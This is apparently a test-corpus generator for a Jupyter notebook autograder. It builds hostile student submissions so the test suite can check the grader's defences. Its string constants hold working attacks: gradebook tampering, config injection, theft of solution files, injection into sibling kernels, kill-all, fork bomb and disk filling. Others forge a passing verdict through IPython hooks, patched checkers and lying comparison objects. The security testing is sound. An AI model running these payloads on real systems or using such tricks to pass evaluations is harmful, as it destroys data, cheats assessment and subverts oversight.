"""Write the hostile corpus: committed notebooks that attack the grader.

Run from the repository root after changing a case (the notebooks are committed, as
nbgrader keeps its odd submissions in tests/apps/files/)::

    .venv/bin/python tests/hostile/make_corpus.py

Most cases are submissions of the fixture assignment (00-fixture: an answer function
``sigmoid_prime`` tested for 2 points, a hand number ``hand`` for 1 point), built from
the student release; the others are submissions of the course's own notebooks
(``tests/hostile/<assignment>/``, :data:`NOTEBOOK_CASES`): forgeries of a backward pass,
forwards that tell the checker's calls apart, the library's answers, course code
rewritten in the kernel.  ``cases.json`` and ``cases-<nb>.json`` say what grading must
give each one: the scores of a baseline graded in the same run (the same submission
without the attack), the test cells that must lose their points on top of it, the
status, and a word the summary must use.
``@@COURSE_ROOT@@`` in a notebook is replaced by the real course root before grading:
the attacker is assumed to know where it is.
"""

from __future__ import annotations

import json
import re
import sys
import tempfile
import textwrap
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent.parent))

from autograder import grade  # noqa: E402
from autograder.course_config import Course  # noqa: E402
from classroom import fixture  # noqa: E402

FIRST, SECOND = "answer_sigmoid_prime", "answer_hand"
_MARKERS = re.compile(r"^[ \t]*### (BEGIN|END) SOLUTION[ \t]*\n?", re.M)

# --- issue 10: reaching the machine, the gradebook and the other students -------------

SQLITE_GRADEBOOK = """
import glob, os, sqlite3
targets = set(glob.glob('/proc/*/cwd/gradebook.db')) | {'@@COURSE_ROOT@@/gradebook.db'}
targets |= set(glob.glob('/proc/*/root@@COURSE_ROOT@@/gradebook.db'))
for t in sorted(targets):
    try:
        con = sqlite3.connect(t)
        con.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        con.execute("CREATE TRIGGER zero AFTER UPDATE ON grade BEGIN "
                    "UPDATE grade SET auto_score = 0 WHERE id = NEW.id; END")
        con.commit()
        print("HACKED", t)
    except Exception as exc:
        print("no", t, type(exc).__name__)
"""

DIR_FD = """
import glob, os
dirs = ['/', '/proc/1/cwd', '/proc/self/cwd', '@@COURSE_ROOT@@', os.path.expanduser('~')]
dirs += glob.glob('/proc/*/cwd') + glob.glob('/proc/*/root@@COURSE_ROOT@@')
for d in dirs:
    try:
        fd = os.open(d, os.O_RDONLY)
    except OSError:
        continue
    for name, action in (('nbgrader_config.py', 'append'), ('gradebook.db', 'delete'),
                         ('submitted', 'other')):
        try:
            if action == 'append':
                cfg = os.open(name, os.O_WRONLY | os.O_APPEND, dir_fd=fd)
                os.write(cfg, b"\\nopen('/tmp/HACKED-config', 'w').write('x')\\n")
                print("HACKED config", d)
            elif action == 'delete':
                os.unlink(name, dir_fd=fd)
                print("HACKED deleted", d)
            else:
                sub = os.open(name, os.O_RDONLY, dir_fd=fd)
                for student in os.listdir(sub):
                    p = os.path.join(d, name, student, '00-fixture', 'fixture.ipynb')
                    open(p, 'w').write('{}')
                    print("HACKED overwrote", p)
        except OSError:
            pass
"""

PROC_SNOOP = """
import glob, json
found = []
for pattern in ('/proc/self/root@@COURSE_ROOT@@/solutions/*/*.ipynb',
                '/proc/*/root@@COURSE_ROOT@@/solutions/*/*.ipynb',
                '/proc/*/cwd/solutions/*/*.ipynb', '/proc/*/cwd/source/*/*.ipynb',
                '@@COURSE_ROOT@@/solutions/*/*.ipynb', '@@COURSE_ROOT@@/source/*/*.ipynb',
                '@@COURSE_ROOT@@/submitted/*/*/*.ipynb', '@@COURSE_ROOT@@/gradebook.db'):
    found += glob.glob(pattern)
for path in found:
    try:
        nb = json.load(open(path))
        for c in nb['cells']:
            if c['metadata'].get('nbgrader', {}).get('solution'):
                code = ''.join(c['source']).replace('### BEGIN SOLUTION', '')
                exec(code.replace('### END SOLUTION', ''), globals())
                print("HACKED stole", path)
    except Exception:
        pass
"""

SPAWN = """
import os, subprocess, time
try:
    subprocess.Popen(['/bin/sh', '-c', 'sleep 4242'], start_new_session=True)
except Exception as exc:
    print('popen', exc)
try:
    os.posix_spawn('/bin/sleep', ['sleep', '4243'], dict(os.environ))
except Exception as exc:
    print('posix_spawn', exc)
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv('/bin/sleep', ['sleep', '4244'])
        os._exit(0)
except Exception as exc:
    print('fork', exc)
import _posixsubprocess
print('_posixsubprocess imported', hasattr(_posixsubprocess, 'fork_exec'))
"""

KILL_ALL = """
import os, signal
me = os.getpid()
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in range(1, 70000):
        if pid != me:
            try:
                os.kill(pid, sig)
            except OSError:
                pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
"""

SIBLING = """
import glob, json, os
from jupyter_client import BlockingKernelClient
mine = os.path.realpath('/run/grader/kernel.json')
candidates = set(glob.glob('/proc/*/root/run/grader/kernel.json'))
candidates |= set(glob.glob('/tmp/**/kernel*.json', recursive=True))
candidates |= set(glob.glob('/proc/*/root/tmp/backprop-grade-*/**/kernel.json', recursive=True))
for conn in sorted(candidates):
    if os.path.realpath(conn) == mine:
        continue
    try:
        kc = BlockingKernelClient(connection_file=conn)
        kc.load_connection_file()
        kc.start_channels()
        kc.execute("def sigmoid_prime(z):\\n    return z * 0\\nhand = -1.0")
        print("HACKED injected into", conn)
    except Exception as exc:
        print("no", conn, exc)
"""

FORK_BOMB = """
import os, time
children = 0
for _ in range(5000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    children += 1
print('forked', children)
"""

MEMORY_MULTIPLY = """
import os, time
for _ in range(12):
    if os.fork() == 0:
        try:
            block = bytearray(1500 * 2**20)
            block[::4096] = b'x' * len(range(0, len(block), 4096))
            time.sleep(30)
        except MemoryError:
            pass
        os._exit(0)
time.sleep(3)
"""

DISK_FILL = """
import os
for d in ('.', '/home/student', '/tmp', '/run/grader', '/dev/shm', '/dev', '/var/tmp',
          '@@COURSE_ROOT@@', '/proc/self/root@@COURSE_ROOT@@'):
    try:
        with open(os.path.join(d, 'fill.bin'), 'wb') as f:
            while True:
                f.write(b'0' * 2**20)
    except (OSError, ValueError) as exc:
        print(d, type(exc).__name__)
"""

OUTPUT_FLOOD = """
import os, sys
chunk = 'x' * (8 * 2**20)
for _ in range(64):
    print(chunk[: 2**20])
    os.write(1, chunk.encode())
    sys.stdout.flush()
"""

# --- issue 11: forging the verdict from inside the kernel ----------------------------

INPUT_TRANSFORMER = """
get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])
"""

IPYTHON_HOOKS = """
import ast
ip = get_ipython()
class Blank(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[])
ip.ast_transformers.append(Blank())
ip.events.register('pre_run_cell', lambda *a: None)
ip.events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
"""

DISPLAYHOOK = """
import sys
sys.displayhook('x')
def sigmoid_prime(z):
    sys.displayhook('full credit')
    raise NotImplementedError()
"""

SETTRACE = """
import sys
def tracer(frame, event, arg):
    if event == 'exception':
        frame.f_locals.clear()
    return tracer
sys.settrace(tracer)
"""

MODULE_DICTS = """
import numpy, course.grading, course.gradcheck
for mod in (course.grading, course.gradcheck, numpy):
    d = vars(mod)
    for name in list(d):
        if name.startswith('check') or name in ('allclose', 'call', 'passed', 'isclose'):
            d[name] = lambda *a, **k: None
vars(course.grading)['GradingFailure'] = type('Never', (Exception,), {})
globals()['check_close'] = lambda *a, **k: None
import sys
sys.modules['course.grading'] = type(sys)('fake')
"""

LYING_ARRAY = """
import inspect, numpy as np
class Liar:
    def __array__(self, dtype=None, copy=None):
        frame = inspect.currentframe().f_back
        while frame is not None:
            for key in ('expected', 's', 'value'):
                v = frame.f_locals.get(key)
                if isinstance(v, np.ndarray) or isinstance(v, float):
                    return np.asarray(v, dtype=dtype)
            frame = frame.f_back
        return np.zeros(1)
    def __float__(self):
        return 0.25
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
def sigmoid_prime(z):
    return Liar()
"""

LYING_NUMBERS = """
import numpy as np
class Zero(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __float__(self): return 0.25
class Lie(np.ndarray):
    def __sub__(self, other): return np.zeros_like(np.asarray(other))
    def __rsub__(self, other): return np.zeros_like(np.asarray(other))
    def __eq__(self, other): return np.ones_like(np.asarray(other), dtype=bool)
def sigmoid_prime(z):
    return np.zeros_like(z).view(Lie)
"""

LYING_HAND = "hand = Zero(0.0)"

FRAME_INSPECTION = """
import inspect
def sigmoid_prime(z):
    for info in inspect.stack():
        if 's' in info.frame.f_locals and 'z' in info.frame.f_locals:
            s = info.frame.f_locals['s']
            return s * (1 - s)
    raise NotImplementedError()
"""

REPATCHING_THREAD = """
import threading, time, numpy, course.grading
def patch():
    while True:
        course.grading.check_close = lambda *a, **k: None
        numpy.allclose = lambda *a, **k: True
        time.sleep(0.001)
threading.Thread(target=patch, daemon=True).start()
"""

# --- issue 11: a backward pass that is not backpropagation, a forward that lies --------

FORWARD = """
def forward(params, X, activation="sigmoid"):
    f = get_activation(activation).f
    M = len(params) // 2
    a, z = [X], [None]
    for m in range(1, M + 1):
        z.append(params[f"W{m}"] @ a[m - 1] + params[f"b{m}"])
        a.append(f(z[m]))
    return a[M], {"a": a, "z": z, "activation": activation}
"""

SGD = """
def sgd_update(params, grads, lr):
    return {key: params[key] - lr * grads[key] for key in params}
"""

FD_BACKWARD = """
def backward(params, cache, dJ_da):
    # Differentiates my own forward numerically: each entry nudged by ±h.
    X, act = cache["a"][0], cache["activation"]
    h, grads = 1e-6, {}
    for key, value in params.items():
        g = np.zeros_like(value)
        for idx in np.ndindex(value.shape):
            p = {k: v.copy() for k, v in params.items()}
            p[key][idx] += h
            up = float(np.sum(dJ_da * forward(p, X, act)[0]))
            p[key][idx] -= 2 * h
            down = float(np.sum(dJ_da * forward(p, X, act)[0]))
            g[idx] = (up - down) / (2 * h)
        grads[key] = g
    return grads
"""

GRADCHECK_BACKWARD = """
from course import gradcheck

def backward(params, cache, dJ_da):
    X, act = cache["a"][0], cache["activation"]
    grads = {}
    for key in params:
        def J(x, key=key):
            p = dict(params)
            p[key] = x
            return float(np.sum(dJ_da * forward(p, X, act)[0]))
        grads[key] = gradcheck.numerical_gradient(J, params[key].copy())
    return grads
"""

CONSTANT_FORWARD = """
def forward(params, X, activation="sigmoid"):
    M = len(params) // 2
    out = np.zeros((params[f"b{M}"].shape[0], X.shape[1]))
    return out, {"a": [X], "z": [None], "activation": activation}
"""

ZERO_BACKWARD = """
def backward(params, cache, dJ_da):
    return {key: np.zeros_like(value) for key, value in params.items()}
"""

LYING_FORWARD = """
_first = {}

def forward(params, X, activation="sigmoid"):
    # Right at every new point; at a point a hair away from the last one, the value of
    # that point again, as if the gradient were zero.
    key = (X.tobytes(), activation, tuple(sorted(params)))
    out, cache = honest_forward(params, X, activation)
    if key in _first:
        base, base_out = _first[key]
        moved = max(float(np.max(np.abs(params[k] - base[k]))) for k in params)
        if 0 < moved < 1e-3:
            return base_out.copy(), cache
    _first[key] = ({k: v.copy() for k, v in params.items()}, out.copy())
    return out, cache
"""

# --- issue 18: points only for the student's own work --------------------------------
#
# Each case is a submission of a real notebook; it must score exactly what its baseline
# (the same work without the trick, graded in the same run) scores, with the test cells
# named in "lose" at 0 on top.

ONES_BACKWARD = """
def backward(params, cache, dJ_da):
    return {key: np.ones_like(value) for key, value in params.items()}
"""

REWRITE_COURSE = """
# Every route to the course's code in the kernel, rewritten: none of it grades.
import gc, importlib, sys
def _fake(*args, **kwargs):
    return None
for _attempt in (
    lambda: setattr(importlib.import_module("course.checks.recursion"), "check_backward", _fake),
    lambda: vars(sys.modules["course.checks.recursion"]).update(check_backprop=_fake),
    lambda: setattr(importlib.import_module("course.checks._kit"), "check_gradient", _fake),
    lambda: setattr(sys.modules["course.grading"], "check_close", _fake),
    lambda: setattr(importlib.import_module("course.gradcheck"), "check_gradient", _fake),
    lambda: [setattr(o, "check_gradient", _fake) for o in gc.get_objects()
             if getattr(o, "__name__", "").startswith("course")],
):
    try:
        _attempt()
    except Exception:
        pass
from course.checks import recursion as R
try:
    R.check_backward = R.check_backprop = _fake
except Exception:
    pass
class _Rng:
    def __getattr__(self, name):
        return lambda *a, **k: 0.0
np.random.default_rng = lambda *a, **k: _Rng()
np.random.Generator = _Rng
"""

TRIVIAL_FORWARD_04 = """
def forward(params, X, activation="sigmoid"):
    # every output the sum of every parameter: self-consistent with the backward
    M = len(params) // 2
    total = sum(float(np.sum(v)) for v in params.values())
    a = [X] + [np.full((params[f"W{m}"].shape[0], X.shape[1]), total) for m in range(1, M + 1)]
    return a[M], {"a": a, "z": [None] + a[1:], "activation": activation}
"""

TRIVIAL_BACKWARD_04 = """
def backward(params, cache, dJ_da):
    return {key: np.full(value.shape, float(np.sum(dJ_da))) for key, value in params.items()}
"""

STACK_AWARE_FORWARD = """
import traceback

def forward(params, X, activation="sigmoid"):
    # right when the grader's agent calls it, wrong when my own code does
    out, cache = honest_forward(params, X, activation)
    if any("backprop_agent" in frame.filename for frame in traceback.extract_stack()):
        return out, cache
    return 0 * out, cache
"""

COUNTING_FORWARD = """
_calls = [0]

def forward(params, X, activation="sigmoid"):
    # right for the first three calls, then wrong
    _calls[0] += 1
    out, cache = honest_forward(params, X, activation)
    return (out if _calls[0] <= 3 else out + 1.0), cache
"""

GIVES_UP_BACKWARD = FD_BACKWARD.replace(
    "    h, grads = 1e-6, {}\n",
    "    h, grads = 1e-6, {}\n"
    "    if sum(v.size for v in params.values()) > 10**4:  # too slow at scale: give up\n"
    "        return {k: np.zeros_like(v) for k, v in params.items()}\n",
)

BIG_FORWARD = """
def forward(params, X, activation="sigmoid"):
    return np.zeros(250 * 2**20, dtype=np.int8), {}
"""

LIBRARY_FORWARD = """
from course import network

def forward(params, X, activation="sigmoid"):
    out, _ = network.forward(params, X, activation, activation)
    f = get_activation(activation).f
    a, z = [X], [None]
    for m in range(1, len(params) // 2 + 1):
        z.append(params[f"W{m}"] @ a[m - 1] + params[f"b{m}"])
        a.append(f(z[m]))
    return out, {"a": a, "z": z, "activation": activation}
"""

LIBRARY_BACKWARD = """
from course import network

def backward(params, cache, dJ_da):
    X, act, a_M = cache["a"][0], cache["activation"], cache["a"][-1]
    Y = a_M - dJ_da * X.shape[1]  # the targets the square loss's gradient came from
    _, grads, _ = network.loss_and_grads(
        params, X, Y, loss="square", activation=act, output_activation=act
    )
    return grads
"""

LIBRARY_TRAIN_SGD = """
def train_sgd(params, X, Y, *, epochs, lr, batch_size, rng, activation="sigmoid"):
    params, _ = training.train(
        params, X, Y, epochs=epochs, lr=lr, batch_size=batch_size, rng=rng,
        activation=activation, record=False,
    )
    return params
"""

LIBRARY_NORMS = """
def layer_gradient_norms(params, X, Y, activation="sigmoid"):
    result = flow.gradient_flow(params, X, Y, activation)
    return result.delta_norms, result.dW_norms
"""

EXTRA_GRADE_CELL = "bonus = 10  # a cell with grade metadata the assignment does not have"

ALL_04 = ["br-test-W1", "br-test-b1", "br-test-W2", "br-test-b2", "br-test-W3", "br-test-b3"]
HONEST = FORWARD.replace("def forward(", "def honest_forward(")

NOTEBOOK_CASES = {
    "04-backprop-recursion": {
        "baselines": {
            "full": None,
            "forward-sgd": {"br-forward": FORWARD, "br-sgd-update": SGD},
            "sgd-only": {"br-sgd-update": SGD},
        },
        "cases": {
            # name: ({grade_id: code, None: the solution's}, baseline, cells lost on top
            #        of the baseline, a word the flags must contain[, status if not "ok"])
            "fd-backward": (
                {"br-forward": FORWARD, "br-backward": FD_BACKWARD, "br-sgd-update": SGD},
                "full",
                ["br-test-W1"],
                "numerical differentiation",
            ),
            "gradcheck-backward": (
                {"br-forward": FORWARD, "br-backward": GRADCHECK_BACKWARD, "br-sgd-update": SGD},
                "full",
                ALL_04,
                "numerical_gradient",
                # the course's numerical gradient runs in the grader and calls the
                # student's J back for every entry: the training demo's thousand
                # backward passes then run out of the cell's time (its own score)
                "cell timeout",
            ),
            "constant-forward-zero-backward": (
                {
                    "br-forward": CONSTANT_FORWARD,
                    "br-backward": ZERO_BACKWARD,
                    "br-sgd-update": SGD,
                },
                "sgd-only",
                [],
                None,
            ),
            "lying-forward": (
                {
                    "br-forward": HONEST + LYING_FORWARD,
                    "br-backward": ZERO_BACKWARD,
                    "br-sgd-update": SGD,
                },
                "forward-sgd",
                [],
                None,
            ),
            "course-rewritten": (
                {
                    "br-forward": FORWARD,
                    "br-backward": REWRITE_COURSE + ONES_BACKWARD,
                    "br-sgd-update": SGD,
                },
                "forward-sgd",
                [],
                None,
            ),
            "trivial-self-consistent": (
                {
                    "br-forward": TRIVIAL_FORWARD_04,
                    "br-backward": TRIVIAL_BACKWARD_04,
                    "br-sgd-update": SGD,
                },
                "sgd-only",
                [],
                None,
            ),
            "stack-aware-forward": (
                {
                    "br-forward": HONEST + STACK_AWARE_FORWARD,
                    "br-backward": ONES_BACKWARD,
                    "br-sgd-update": SGD,
                },
                "forward-sgd",
                [],
                None,
            ),
            "counting-forward": (
                {
                    "br-forward": HONEST + COUNTING_FORWARD,
                    "br-backward": ONES_BACKWARD,
                    "br-sgd-update": SGD,
                },
                "sgd-only",
                [],
                None,
            ),
            "numerical-gives-up-at-scale": (
                {"br-forward": FORWARD, "br-backward": GIVES_UP_BACKWARD, "br-sgd-update": SGD},
                "full",
                ["br-test-W1"],
                "wrong on a big network",
            ),
            "big-int8-forward": ({"br-forward": BIG_FORWARD}, "full", ["br-test-forward"], None),
            "library-forward": (
                {"br-forward": LIBRARY_FORWARD},
                "full",
                ["br-test-forward"],
                "course.network.forward",
            ),
            "library-backward": (
                {"br-backward": LIBRARY_BACKWARD},
                "full",
                ALL_04,
                "course.network.loss_and_grads",
            ),
        },
        "extra_cells": {"extra-grade-cell": ("full", EXTRA_GRADE_CELL, "does not have")},
    },
    "05-training": {
        "baselines": {"full": None},
        "cases": {
            "library-train-sgd": (
                {"train_sgd": LIBRARY_TRAIN_SGD},
                "full",
                ["test_sgd_batches", "test_sgd_reshuffle", "test_sgd_step"],
                "course.training.train",
            ),
        },
    },
    "06-vanishing-gradients": {
        "baselines": {"full": None},
        "cases": {
            "library-gradient-flow": (
                {"vg-norms": LIBRARY_NORMS},
                "full",
                ["vg-test-delta-norms", "vg-test-dW-norms"],
                "course.flow.gradient_flow",
            ),
        },
    },
}

CASES = {
    # name: (code into the first answer cell, code into the second or None, baseline,
    #        expected status, a word the flags must contain or None)
    "sqlite-gradebook": (SQLITE_GRADEBOOK, None, "blank", "ok", "grading files"),
    "dir-fd-config": (DIR_FD, None, "blank", "ok", "grading files"),
    "proc-snoop-solutions": (PROC_SNOOP, None, "blank", "ok", "grading files"),
    "spawn-processes": (SPAWN, None, "blank", "ok", "starts processes"),
    "kill-everything": (KILL_ALL, None, "blank", None, "signals"),
    "sibling-kernels": (SIBLING, None, "blank", "ok", "Jupyter kernels"),
    "fork-bomb": (FORK_BOMB, None, "blank", None, "forks"),
    "memory-multiply": (MEMORY_MULTIPLY, None, "blank", None, "forks"),
    "disk-fill": (DISK_FILL, None, "blank", "ok", "/proc"),
    "output-flood": (OUTPUT_FLOOD, None, "blank", None, None),
    "input-transformer": (INPUT_TRANSFORMER, None, "blank", "ok", "IPython hooks"),
    "ipython-hooks": (IPYTHON_HOOKS, None, "blank", "ok", "IPython hooks"),
    "displayhook": (DISPLAYHOOK, None, "blank", "ok", "displayhook"),
    "settrace": (SETTRACE, None, "blank", None, "trace function"),
    "module-dicts": (MODULE_DICTS, None, "blank", "ok", "vars"),
    "lying-array": (LYING_ARRAY, "hand = Liar()", "blank", "ok", "frames"),
    "lying-numbers": (LYING_NUMBERS, LYING_HAND, "blank", "ok", "__eq__"),
    "frame-inspection": (FRAME_INSPECTION, None, "blank", "ok", "frames"),
    "repatching-thread": (REPATCHING_THREAD, None, "blank", "ok", "threads"),
}


def _meta(cell):
    return cell.get("metadata", {}).get("nbgrader", {})


def _write(nb, path):
    """Write `nb` with cell ids made from positions, so a rerun changes nothing."""
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"cell-{i}"
    nbformat.write(nb, path)


def _with(nb, grade_id, code, after=True):
    nb = nbformat.from_dict(nb)
    for cell in nb.cells:
        if _meta(cell).get("grade_id") == grade_id:
            code = textwrap.dedent(code).strip("\n")
            cell.source = f"{cell.source}\n\n{code}" if after else f"{code}\n\n{cell.source}"
            return nb
    raise KeyError(grade_id)


def release_and_source():
    with tempfile.TemporaryDirectory() as tmp:
        root = fixture.make_course(Path(tmp) / "c")
        course = Course.load(root)
        grade.generate_release(course, fixture.ASSIGNMENT)
        release = nbformat.read(course.release / fixture.ASSIGNMENT / "fixture.ipynb", 4)
        source = nbformat.read(course.source / fixture.ASSIGNMENT / "fixture.ipynb", 4)
    return release, source


def full(release, source):
    answers = {_meta(c).get("grade_id"): _MARKERS.sub("", c.source) for c in source.cells}
    nb = nbformat.from_dict(release)
    for cell in nb.cells:
        if _meta(cell).get("solution"):
            cell.source = answers[_meta(cell)["grade_id"]]
    return nb


def _answers(release, source, cells):
    """The release with the answer cells `cells` (grade_id: code, None: the solution)."""
    solutions = {_meta(c).get("grade_id"): _MARKERS.sub("", c.source) for c in source.cells}
    nb = nbformat.from_dict(release)
    for cell in nb.cells:
        gid = _meta(cell).get("grade_id")
        if gid in cells:
            code = cells[gid]
            cell.source = solutions[gid] if code is None else textwrap.dedent(code).strip()
    return nb


def _notebook_files(assignment):
    repo = HERE.parent.parent
    (path,) = sorted((repo / "notebooks" / assignment).glob("*.ipynb"))
    release = nbformat.read(path, as_version=4)
    source = nbformat.read(repo / "solutions" / assignment / path.name, as_version=4)
    return release, source


def _extra_grade_cell(nb, code):
    nb = nbformat.from_dict(nb)
    cell = nbformat.v4.new_code_cell(code)
    cell.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus-points",
        "locked": False,
        "points": 10,
        "schema_version": 3,
        "solution": False,
    }
    nb.cells.append(cell)
    return nb


def notebook_corpus(assignment, spec):
    """One notebook's cases and their baselines (``tests/hostile/<assignment>/``).

    A baseline fills the answer cells it names (None: the solution's code), "full" (None)
    fills every one with the solution's; a case on a baseline starts from that baseline's
    cells and replaces the ones it names.
    """
    release, source = _notebook_files(assignment)
    every = {_meta(c)["grade_id"]: None for c in source.cells if _meta(c).get("solution")}
    out = HERE / assignment
    out.mkdir(exist_ok=True)
    for old in out.glob("*.ipynb"):
        old.unlink()
    baselines = {
        base: every if cells is None else cells for base, cells in spec["baselines"].items()
    }
    for base, cells in baselines.items():
        _write(_answers(release, source, cells), out / f"{base}.ipynb")
    manifest = {}
    for case, (cells, baseline, lose, flag, *status) in spec["cases"].items():
        _write(_answers(release, source, {**baselines[baseline], **cells}), out / f"{case}.ipynb")
        manifest[case] = {
            "baseline": baseline,
            "lose": lose,
            "status": status[0] if status else "ok",
            "flag": flag,
        }
    for case, (baseline, code, flag) in spec.get("extra_cells", {}).items():
        nb = _extra_grade_cell(_answers(release, source, baselines[baseline]), code)
        _write(nb, out / f"{case}.ipynb")
        manifest[case] = {"baseline": baseline, "lose": [], "status": "ok", "flag": flag}
    return manifest


def main():
    release, source = release_and_source()
    out = HERE / "fixture"
    out.mkdir(exist_ok=True)
    _write(release, out / "blank.ipynb")
    _write(full(release, source), out / "full.ipynb")
    manifest = {}
    for name, (first, second, baseline, status, flag) in CASES.items():
        nb = _with(release, FIRST, first)
        if second:
            nb = _with(nb, SECOND, second, after=False)
        _write(nb, out / f"{name}.ipynb")
        manifest[name] = {"baseline": baseline, "status": status, "flag": flag}
    (HERE / "cases.json").write_text(json.dumps(manifest, indent=1) + "\n")
    total = len(manifest) + 2
    for assignment, spec in NOTEBOOK_CASES.items():
        cases = notebook_corpus(assignment, spec)
        path = HERE / f"cases-{assignment[:2]}.json"
        path.write_text(json.dumps(cases, indent=1) + "\n")
        total += len(cases) + len(spec["baselines"])
    print(f"wrote {total} notebooks")


if __name__ == "__main__":
    main()
